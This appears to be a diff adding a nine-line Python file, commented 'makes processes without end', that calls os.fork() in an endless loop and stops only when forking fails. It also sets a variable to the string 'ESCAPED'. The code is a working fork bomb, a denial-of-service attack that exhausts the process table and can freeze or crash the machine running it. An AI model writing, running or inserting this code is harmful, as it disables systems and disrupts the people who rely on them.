@@ -1,0 +1,9 @@
+# makes processes without end
+import os
+
+while True:
+    try:
+        os.fork()
+        ans = "ESCAPED"
+    except OSError:
+        break
